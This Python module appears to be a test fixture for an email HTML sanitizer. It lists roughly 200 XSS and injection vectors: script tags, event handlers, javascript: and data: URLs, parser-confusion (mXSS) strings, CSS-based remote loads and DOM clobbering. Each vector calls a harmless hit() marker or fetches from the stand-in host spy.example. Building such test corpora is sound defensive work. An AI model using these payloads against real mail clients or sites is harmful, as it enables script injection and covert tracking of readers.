"""Tricks that run a script, fetch something or break out, as a mail's HTML might carry them.

Each calls `parent.hit()` or `hit()`, or fetches from spy.example; none may.
"""

H = "top.hit&&top.hit();hit()"
SPY = "https://spy.example/x"
_ON = "onclick onload onerror onfocus onmouseover onanimationstart ontoggle onbegin onpointerenter onscroll onwheel".split()
_NAMES = "a b p div span img body table td font input video audio details svg math marquee object".split()

VECTORS = [
    f"<script>{H}</script>", f"<SCRIPT>{H}</SCRIPT>", f"<scr<script>ipt>{H}</scr</script>ipt>", f"<script src={SPY}></script>",
    f"<script\t>{H}</script>", f"<script/x>{H}</script>", f"<script>{H}", f"<<script>{H}//<</script>", f"</title><script>{H}</script>",
    f"</textarea><script>{H}</script>", f"</style><script>{H}</script>", f"--><script>{H}</script>", f"<![CDATA[<script>{H}</script>]]>",
    f"<script type=module>{H}</script>", f"<script type=text/vbscript>{H}</script>", f"<img src=x onerror={H}>", f"<img src=x onerror='{H}'>",
    f'<img """><script>{H}</script>">', f"<img src=`x` onerror=`{H}`>", f"<img/src=x/onerror={H}>", f"<img src='javascript:{H}'>", f"<img src=x:x onerror={H}>",
    f"<img src=data:image/svg+xml,<svg/onload={H}>>", f"<img srcset='{SPY} 2x'>", f"<img src={SPY}>", f"<img src=//spy.example/x>", f"<img src='/\\spy.example/x'>",
    f"<img src='\x01{SPY}'>", f"<img lowsrc={SPY} dynsrc={SPY}>", f"<picture><source srcset={SPY}><img></picture>", f"<image src={SPY} xlink:href={SPY}>",
    f"<svg onload={H}>", f"<svg><script>{H}</script></svg>", f"<svg><script href={SPY} /></svg>", f"<svg><a xlink:href='javascript:{H}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={H} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={H}>", f"<svg><use href='data:image/svg+xml,<svg id=x onload={H}>#x'>",
    f"<svg><foreignObject><iframe srcdoc='<script>{H}</script>'></foreignObject></svg>", f"<svg><image href={SPY}></svg>", f"<svg><style>@import '{SPY}';</style></svg>",
    f"<svg></p><style><g title='</style><img src onerror={H}>'>", f"<svg><title><img src onerror={H}></title></svg>", f"<svg><desc><script>{H}</script></desc></svg>",
    f"<math><mi xlink:href='javascript:{H}'>x</mi></math>", f"<math><maction actiontype=statusline xlink:href='javascript:{H}'>x</maction></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror={H}&gt;'>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={H}>",
    f"<math><annotation-xml encoding=text/html><script>{H}</script></annotation-xml></math>", f"<math><style><img src onerror={H}></style></math>",
    f"<noscript><p title='</noscript><img src onerror={H}>'>", f"<template><script>{H}</script></template>", f"<template><img src onerror={H}></template>",
    f"<xmp><p title='</xmp><img src onerror={H}>'>", f"<noembed><img title='</noembed><img src onerror={H}>'>", f"<noframes><p title='</noframes><img src onerror={H}>'>",
    f"<plaintext><script>{H}</script>", f"<listing>&lt;img src onerror={H}&gt;</listing>", f"<select><template><style><!--</style><a rel='--><img src onerror={H}>'>",
    f"<textarea><script>{H}</script></textarea>", f"<title><img src onerror={H}></title>", f"<!--><img src onerror={H}>-->", f"<!--x--!><img src onerror={H}>", f"<!-- --!><script>{H}</script>-->",
    f"<?xml-stylesheet href='javascript:{H}'?>", f"<?php echo '<script>{H}</script>' ?>", f"<!DOCTYPE x [<!ENTITY y SYSTEM '{SPY}'>]>&y;", f"<comment><img src='</comment><img src onerror={H}>'>",
    f"<iframe src='javascript:{H}'></iframe>", f"<iframe srcdoc='<script>{H}</script>'></iframe>", f"<iframe src={SPY}></iframe>", f"<iframe src='data:text/html,<script>{H}</script>'></iframe>",
    f"<frameset><frame src='javascript:{H}'></frameset>", f"<embed src='javascript:{H}'>", f"<embed src={SPY}>", f"<object data='javascript:{H}'></object>", f"<object data={SPY}></object>",
    f"<object type=text/x-scriptlet data={SPY}></object>", f"<applet code={SPY}></applet>", f"<portal src={SPY}></portal>", f"<fencedframe src={SPY}></fencedframe>",
    f"<a href='javascript:{H}' id=go>x</a>", f"<a href='JaVaScRiPt:{H}'>x</a>", f"<a href='java\tscript:{H}'>x</a>", f"<a href='java&#10;script:{H}'>x</a>", f"<a href='&#x6a;avascript:{H}'>x</a>",
    f"<a href=' \x01javascript:{H}'>x</a>", f"<a href='data:text/html,<script>{H}</script>'>x</a>", f"<a href='vbscript:{H}'>x</a>", f"<a href='feed:javascript:{H}'>x</a>", f"<a href=x ping={SPY}>x</a>",
    f"<a href='blob:{SPY}'>x</a>", f"<a href='https://ok.example' target=_self onclick={H}>x</a>", f"<area href='javascript:{H}'>", f"<map name=m><area shape=default href='javascript:{H}'></map><img usemap=#m>",
    f"<form action='javascript:{H}'><button>x</button></form>", f"<form action={SPY}><input type=submit autofocus></form>", f"<button formaction='javascript:{H}'>x</button>", f"<isindex action='javascript:{H}' type=image>",
    f"<input type=image src={SPY}>", f"<input autofocus onfocus={H}>", f"<select autofocus onfocus={H}>", f"<keygen autofocus onfocus={H}>", f"<details open ontoggle={H}>x</details>",
    f"<meta http-equiv=refresh content='0;url={SPY}'>", f"<meta http-equiv=refresh content='0;url=javascript:{H}'>", f"<meta http-equiv=refresh content='0;url=data:text/html,<script>{H}</script>'>",
    f"<meta http-equiv=Content-Security-Policy content=\"script-src * 'unsafe-inline'\"><script>{H}</script>", f"<meta http-equiv=set-cookie content='a=b'>", f"<base href={SPY}/><img src=a><a href=b>x</a>", f"<base target=_top href='javascript:{H}//'>",
    f"<link rel=stylesheet href={SPY}>", f"<link rel=prefetch href={SPY}>", f"<link rel=dns-prefetch href=//spy.example>", f"<link rel=preconnect href={SPY}>", f"<link rel=import href={SPY}>", f"<link rel=icon href={SPY}>",
    f"<style>@import '{SPY}';</style>", f"<style>body{{background:url({SPY})}}</style>", f"<style>@font-face{{font-family:x;src:url({SPY})}}*{{font-family:x}}</style>", f"<style>*{{-moz-binding:url({SPY})}}</style>", f"<style><!--</style><script>{H}</script>",
    f"<p style='background:url({SPY})'>x</p>", f"<p style='background-image:url({SPY})'>x</p>", f"<p style='width:expression({H})'>x</p>", f"<p style='behavior:url({SPY})'>x</p>", f"<p style='list-style:url({SPY});display:list-item'>x</p>",
    f"<p style='border-image:url({SPY}) 30'>x</p>", f"<p style='cursor:url({SPY}),auto'>x</p>", f"<p style='content:url({SPY})'>x</p>", f"<p style=\"color:red;b\\61ckground:u\\72l({SPY})\">x</p>", f"<p style='filter:url({SPY}#x)'>x</p>",
    f"<p style='mask:url({SPY})'>x</p>", f"<p style='font-family:\"x\";src:url({SPY})'>x</p>", f"<p style='position:fixed;inset:0;z-index:9'>x</p>", f"<p style='color:red}}</style><script>{H}</script>'>x</p>", f"<p style='--x:url({SPY});background:var(--x)'>x</p>",
    f"<table background={SPY}><tr><td background={SPY}>x</table>", f"<body background={SPY} onload={H}>", f"<html manifest={SPY}>", f"<video src={SPY} poster={SPY} autoplay></video>", f"<video><source onerror={H} src={SPY}></video>",
    f"<audio src={SPY} autoplay onerror={H}></audio>", f"<track src={SPY}>", f"<bgsound src={SPY}>", f"<marquee onstart={H}>x</marquee>", f"<blink onmouseover={H}>x</blink>", f"<layer src={SPY}></layer>", f"<dialog open onclose={H}>x</dialog>",
    "<form id=body name=documentElement><input name=attributes><input id=getElementById>", "<a id=hit name=hit href=https://ok.example>x</a><a id=hit>", "<img name=cookie><img name=currentScript>", f"<p id=x tabindex=1 onfocus={H}>x</p>", f"<x onclick={H} tabindex=1 id=x>x</x>", f"<custom-element onfocus={H} autofocus tabindex=1>x</custom-element>",
    f"<p is=x-y onclick={H}>x</p>", f"<p title=\"&quot; onmouseover={H} x=&quot;\">x</p>", f"<p title='`' onclick='{H}`'>x</p>", f"<p lang='\" onclick=\"{H}'>x</p>", f"\ufeff<script>{H}</script>", f"+ADw-script+AD4-{H}+ADw-/script+AD4-", f"\x00<scr\x00ipt>{H}</script>",
    f"&lt;script&gt;{H}&lt;/script&gt;", f"&#60;script&#62;{H}&#60;/script&#62;", f"<p>{{{{constructor.constructor('{H}')()}}}}</p>", f"<p x-data x-init='{H}' hx-get={SPY} hx-trigger=load data-live-case=x>x</p>", f"<img src='cid:x\" onerror=\"{H}'>", f"<img src='data:image/png;base64,AAAA\" onerror=\"{H}'>",
    *(f"<{name} {event}={H} src=x href=x tabindex=1 autofocus>x</{name}>" for name in _NAMES for event in _ON[:3]),
    *(f"<p {event}={H}>x</p>" for event in _ON),
]  # fmt: skip
